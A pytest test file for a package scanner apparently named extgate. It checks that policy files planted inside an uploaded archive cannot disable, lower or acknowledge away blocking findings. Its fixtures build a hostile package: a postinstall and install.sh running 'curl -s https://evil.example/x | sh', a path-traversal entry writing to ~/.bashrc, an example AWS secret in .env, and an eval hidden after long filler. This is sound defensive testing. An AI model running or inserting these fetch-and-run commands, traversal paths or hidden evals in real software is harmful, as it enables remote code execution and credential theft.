"""Issue 14: a policy file inside an uploaded archive can never turn a blocked verdict into a pass, by any key.

The keys are enumerated, not listed by hand, so a new one is covered when it appears: every rule id of the rule
packs (`rules.<id>.enabled` / `.level`), `[[acknowledge]]` with every fingerprint of the verdict, and every gate
setting -- the `(section, key)` pairs the source passes to `Policy.setting` / `GateContext.setting` (found by
walking the source's syntax trees) plus every pair really read while checking the packages below (recorded).
"""

from __future__ import annotations

import ast
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from extgate import Options, Status, Verdict, check
from extgate.policy import POLICY_FILE_NAMES, Policy
from extgate.rules.registry import load_registry
from hostile.hostile_archives import Member, tar_bytes
from hostile.smuggling import EVIL

SRC = Path(__file__).resolve().parents[2] / "src" / "extgate"
OFFLINE = Options(offline=True, network=False, use_cache=False)
MANIFEST = {
    "name": "evil-ext",
    "version": "1.0.0",
    "main": "index.js",
    "scripts": {"postinstall": "curl -s https://evil.example/x | sh"},
    "dependencies": {"left-pad": "^1.3.0"},
}
# one blocking reason per gate: archive (traversal), safety (hidden file, shell script), code (eval), content and
# secrets (an AWS key), manifest (install script), trust (offline: nothing can be audited)
FILES: dict[str, bytes] = {
    "package/package.json": json.dumps(MANIFEST).encode(),
    "package/index.js": EVIL,
    "package/.env": b"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
    "package/install.sh": b"curl -s https://evil.example/x | sh\n",
    "package/lib/big.js": b"".join(b"a.push(%d);\n" % i for i in range(230_000)) + b"eval(process.env.X)\n",
}
TRAVERSAL = Member("package/../../../home/user/.bashrc", b"curl evil | sh\n")
SWAMP = {"manifest.yaml": b"name: '@demo/x'\nversion: 2026.1.1\nmodels:\n  - a.ts\n", "extensions/models/a.ts": EVIL}


def _archive(policy_file: str | None = None, text: str = "") -> bytes:
    members: list[Member | tuple[str, bytes | str]] = [*FILES.items(), TRAVERSAL]
    if policy_file is not None:
        members.append((f"package/{policy_file}", text))
    return tar_bytes(members)


def _settings_in_source() -> set[tuple[str, str]]:
    """(section, key) of every literal `X.setting(...)` call on a policy or gate context in src/extgate."""
    found: set[tuple[str, str]] = set()
    for path in SRC.rglob("*.py"):
        parts = path.relative_to(SRC).parts
        gate = parts[1].removesuffix(".py") if parts[0] == "gates" and len(parts) > 1 else None
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (
                isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "setting"
            ):
                continue
            owner = ast.unparse(node.func.value)
            literal = [a.value for a in node.args if isinstance(a, ast.Constant) and isinstance(a.value, str)]
            if owner.endswith("policy") and len(node.args) == 3 and len(literal) >= 2:
                found.add((literal[0], literal[1]))
            elif owner.endswith("ctx") and gate and literal:
                found.add((gate, literal[0]))
    return found


@pytest.fixture(scope="module")
def settings_read() -> set[tuple[str, str]]:
    """Every (section, key) really read by checking the blocked package, a swamp one and a clean one."""
    seen: set[tuple[str, str]] = set()
    original = Policy.setting

    def recording(self: Policy, section: str, key: str, default: Any) -> Any:
        seen.add((section, key))
        return original(self, section, key, default)

    mp = pytest.MonkeyPatch()
    mp.setattr(Policy, "setting", recording)
    try:
        for data in (_archive(), tar_bytes(list(SWAMP.items())), tar_bytes([("package/package.json", "{}")])):
            check(data, options=OFFLINE)
    finally:
        mp.undo()
    return seen


@pytest.fixture(scope="module")
def baseline() -> Verdict:
    verdict = check(_archive(), options=OFFLINE)
    assert verdict.status is Status.BLOCKED
    gates = {f.gate for f in verdict.findings if f.level.value == "error"}
    assert {"archive", "safety", "code", "manifest", "trust"} <= gates, gates  # a blocking reason in every gate
    return verdict


def _errors(verdict: Verdict) -> list[tuple[str, str | None, str]]:
    return sorted((f.rule_id, f.path, f.fingerprint) for f in verdict.findings if f.level.value == "error")


def _toml_value(value: object) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{json.dumps(k)} = {_toml_value(v)}" for k, v in value.items()) + "}"
    return json.dumps(value)  # numbers, strings and arrays of them are the same in TOML


LOOSENING: list[object] = [0, -1, 10**15, True, False, "", "*", [], ["*", "**", ".sh", ".env", "*.js"], {"*": ["*"]}]


def _sections_toml(keys: set[tuple[str, str]], value: object) -> str:
    by_section: dict[str, list[str]] = {}
    for section, key in sorted(keys):
        by_section.setdefault(section, []).append(f"{json.dumps(key)} = {_toml_value(value)}")
    return "".join(f"[{json.dumps(section)}]\n" + "\n".join(lines) + "\n" for section, lines in by_section.items())


def _policies(baseline: Verdict, keys: set[tuple[str, str]]) -> Iterator[tuple[str, str]]:
    rule_ids = sorted(rule.id for rule in load_registry())
    for setting in ("enabled = false", 'level = "note"', 'level = "warning"', 'enabled = false\nlevel = "note"'):
        yield setting, "".join(f'[rules."{rule_id}"]\n{setting}\n' for rule_id in rule_ids)
    acks = "".join(
        f'[[acknowledge]]\nfingerprint = "{f.fingerprint}"\nrule = "{f.rule_id}"\nreason = "fine"\n'
        for f in baseline.findings
    )
    yield "acknowledge every finding", acks
    for value in LOOSENING:
        yield f"every setting = {value!r}", _sections_toml(keys, value)
    everything = _sections_toml(keys, 10**15) + acks
    yield "all at once", everything + "".join(f'[rules."{r}"]\nenabled = false\nlevel = "note"\n' for r in rule_ids)


def test_setting_keys_are_found(settings_read: set[tuple[str, str]]) -> None:
    static = _settings_in_source()
    assert {("archive", "max_files"), ("trust", "fail_open"), ("safety", "extra_extensions")} <= static
    assert {("archive", "max_files"), ("trust", "fail_open"), ("code", "parse_timeout_ms")} <= settings_read
    assert len(static | settings_read) >= 20


@pytest.mark.parametrize("name", POLICY_FILE_NAMES)
def test_no_in_archive_policy_key_unblocks(name: str, baseline: Verdict, settings_read: set[tuple[str, str]]) -> None:
    keys = _settings_in_source() | settings_read | {("archive", "no-such-key"), ("no-such-gate", "x")}
    errors = _errors(baseline)
    tried = 0
    for label, text in _policies(baseline, keys):
        Policy.from_toml(text, label)  # every variant is a valid policy: it is applied, not ignored as unreadable
        verdict = check(_archive(name, text), options=OFFLINE)
        assert verdict.status is Status.BLOCKED, label
        assert any(f"in-archive {name} applied" in note for note in verdict.notes), label
        lost = set(errors) - set(_errors(verdict))
        assert not lost, (label, sorted(lost)[:5])  # not one error was disabled, lowered or acknowledged away
        tried += 1
    assert tried >= 16


def test_in_archive_settings_have_no_effect_at_all(baseline: Verdict, settings_read: set[tuple[str, str]]) -> None:
    """Thresholds and allowlists come only from the caller: an in-archive section changes nothing in the verdict."""
    keys = _settings_in_source() | settings_read

    def comparable(verdict: Verdict) -> list[tuple[str, str, str | None, str]]:
        return sorted((f.rule_id, f.level.value, f.path, f.fingerprint) for f in verdict.findings)

    for value in LOOSENING:
        verdict = check(_archive(".extgate.toml", _sections_toml(keys, value)), options=OFFLINE)
        assert comparable(verdict) == comparable(baseline), value


def test_a_pyproject_tool_table_inside_an_archive_is_not_a_policy(baseline: Verdict) -> None:
    rule_ids = sorted(rule.id for rule in load_registry())
    text = "".join(f'[tool.extgate.rules."{r}"]\nenabled = false\n' for r in rule_ids)
    verdict = check(_archive("pyproject.toml", text), options=OFFLINE)
    assert verdict.status is Status.BLOCKED
    assert set(_errors(baseline)) <= set(_errors(verdict))  # (the .toml file itself is one more disallowed type)


def test_the_callers_policy_can_waive_what_the_archive_cannot(baseline: Verdict) -> None:
    """The sweep above can fail: the same keys from the caller do lower levels (so the archive's are ignored)."""
    caller = Policy.from_mapping({"rules": {f.rule_id: {"enabled": False} for f in baseline.findings}})
    verdict = check(_archive(), caller, options=OFFLINE)
    assert verdict.status is Status.PASSED, [(f.rule_id, f.level.value) for f in verdict.findings]
